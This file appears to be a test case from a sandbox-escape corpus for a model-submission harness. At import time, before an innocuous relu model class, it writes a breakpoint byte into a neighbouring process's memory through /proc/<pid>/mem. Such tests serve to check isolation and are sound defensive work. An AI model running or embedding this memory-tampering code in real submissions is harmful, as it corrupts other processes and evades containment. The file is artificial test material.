"""Escape corpus (write a neighbour's memory through /proc/<pid>/mem). Placeholders @...@ are filled by run_escape.py."""
import torch
import torch.nn as nn
with open("/proc/@VICTIM@/mem", "r+b") as f:
    f.seek(0x400000)
    f.write(b"\xcc")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
